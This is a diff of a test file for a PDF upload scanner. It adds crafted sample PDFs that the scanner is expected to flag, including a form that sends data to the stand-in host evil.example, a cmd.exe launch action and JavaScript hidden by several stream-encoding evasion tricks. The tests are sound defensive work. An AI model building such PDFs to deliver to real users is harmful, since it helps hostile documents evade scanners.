@@ -7,8 +7,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { deflateSync } from "node:zlib";
 import { describe, expect, onTestFinished, test } from "vitest";
-import { identifyDocument } from "../../../app/files/documents.server";
-import { examineDocument } from "../../../app/files/suspect-document.server";
+import { examineDocument } from "../../../app/files/documents.server";
 import { workshop } from "./workshop";
 
 const { put } = await workshop();
@@ -23,9 +22,9 @@ const packed = (objects: string) =>
 async function examine(content: Buffer, socket?: string) {
   const errors: string[] = [];
   const path = await put(content);
-  const type = await identifyDocument(path, "cv.pdf");
-  const onScannerError = ({ message }: Error) => void errors.push(message);
-  const result = await examineDocument(path, type, { socket, onScannerError }).catch(
+  const onError = ({ message }: Error) => void errors.push(message);
+  const result = await examineDocument(path, "cv.pdf", { socket, onError }).then(
+    ({ scan }) => scan,
     (error: Error) => `${error.name}: ${error.message}`,
   );
   return { result, errors };
@@ -43,10 +42,7 @@ describe("a PDF is only read", () => {
       pdfOf(stream("/Subtype /Image", Buffer.from("/JS /Launch "))),
     ],
     ["packed objects", pdfOf(packed("1 0 <</Type /Pages /Kids []>>"))],
-    [
-      "packed objects that are damaged",
-      pdfOf(stream("/Type /ObjStm /Filter /FlateDecode", Buffer.from("x/JS"))),
-    ],
+    ["the word for a lock in a title", pdfOf("1 0 obj\n<</Title (How to /Encrypt 5 0 R)>>\nendobj")],
   ])("%s", async (_, content) => {
     expect(await examine(content)).toEqual({ result: "none", errors: [] });
   });
@@ -62,6 +58,67 @@ describe("a PDF is only read", () => {
     ["a command", pdfOf("1 0 obj\n<</S /Launch /F (cmd.exe)>>\nendobj"), "starts a program"],
     ["another file", pdfOf("1 0 obj\n<</Names <</EmbeddedFiles 2 0 R>>>>\nendobj"), "contains another file"],
     ["a lock with a number for a letter", pdfOf("1 0 obj\n<</#45ncrypt 5 0 R>>\nendobj"), "is locked"],
+    [
+      "a program behind a bracket that nothing closes",
+      pdfOf("( \n1 0 obj\n<</S /JavaScript>>\nendobj"),
+      "contains a program",
+    ],
+    [
+      "a program in an object inside of a stream",
+      pdfOf(stream("/Subtype /Image", Buffer.from("7 0 obj <</S/JavaScript>>"))),
+      "contains a program",
+    ],
+    [
+      "a file on another computer",
+      pdfOf("1 0 obj\n<</S /GoToR /F (\\\\host\\x)>>\nendobj"),
+      "another computer",
+    ],
+    [
+      "a form that sends",
+      pdfOf("1 0 obj\n<</S /SubmitForm /F (https://evil.example)>>\nendobj"),
+      "sends data",
+    ],
+    ["a form of XFA", pdfOf("1 0 obj\n<</AcroForm <</XFA 5 0 R>>>>\nendobj"), "can run programs"],
+    [
+      "objects packed twice",
+      pdfOf(
+        stream(
+          "/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]",
+          deflateSync(deflateSync("1 0 <</S /JavaScript>>")),
+        ),
+      ),
+      "packed in an unusual way",
+    ],
+    [
+      "objects in hexadecimal digits",
+      pdfOf(
+        stream(
+          "/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode",
+          Buffer.from(Buffer.from("1 0 <</S /JavaScript>>").toString("hex")),
+        ),
+      ),
+      "packed in an unusual way",
+    ],
+    [
+      "packed objects whose stream does not say so",
+      pdfOf(stream("/N 1 /First 4 /Filter /FlateDecode", deflateSync("1 0 <</S /JavaScript>>"))),
+      "contains a program",
+    ],
+    [
+      "packed objects with a false checksum",
+      pdfOf(
+        stream(
+          "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
+          Buffer.concat([deflateSync("1 0 <</S /JavaScript>>").subarray(0, -4), Buffer.alloc(4)]),
+        ),
+      ),
+      "packed in an unusual way",
+    ],
+    [
+      "packed objects that are not packed",
+      pdfOf(stream("/Type /ObjStm /N 1 /First 4", Buffer.from("1 0 <</S /JavaScript>>"))),
+      "contains a program",
+    ],
     ["a lock", pdfOf("1 0 obj\n<</Encrypt 5 0 R>>\nendobj"), "is locked"],
     ["80 MB of packed objects", pdfOf(packed(" ".repeat(80 * 1024 * 1024))), "too large inside"],
   ])("not %s", async (_, content, words) => {
